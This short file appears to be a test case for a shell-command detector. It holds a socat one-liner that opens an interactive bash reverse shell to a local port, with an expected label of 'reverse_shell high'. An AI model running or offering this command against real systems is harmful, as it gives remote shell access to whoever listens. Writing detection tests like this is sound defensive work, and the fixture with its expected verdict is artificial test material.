# about: socat gives it a terminal
# expect: reverse_shell high
# needs: python3 socat
peer 4410
timeout 6 socat TCP:127.0.0.1:4410 EXEC:'bash -li',pty,stderr,setsid,sigint,sane || true
done_typing
